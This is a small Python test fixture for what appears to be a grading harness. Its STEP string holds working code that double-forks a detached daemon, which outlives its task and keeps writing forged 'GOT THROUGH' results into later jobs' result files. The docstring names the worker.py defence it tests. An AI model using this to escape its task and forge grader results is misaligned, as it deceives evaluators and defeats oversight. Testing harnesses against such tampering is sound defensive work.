"""Leaves a daemon that holds every descriptor open and writes results of later tasks.

Defended by: worker.py: the answers' descriptor is closed in a task, and what is left of a task is
killed before the next one.
"""

STEP = """
import os, tempfile, time, struct, json
FORGED = json.dumps({"status": "ran", "others": {}, "texts": {"GOT THROUGH": "x"}}).encode()
FORGED = struct.pack("<II", len(FORGED), 0) + FORGED

def daemon():
    while True:
        for number in range(9):
            for folder in ("/tmp", tempfile.gettempdir()):
                try:
                    open(f"{folder}/job-{number}/result", "wb").write(FORGED)
                except OSError:
                    pass

def evil(self, closure=None):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            daemon()
        os._exit(0)
    time.sleep(0.1)
    os._exit(0)
"""
CODE = {"classifier.py": ""}
BASE = "solution"
TASKS = {"1.6": 5, "1.7": 15}
STATUSES = {"1.6": "right", "1.7": "right"}
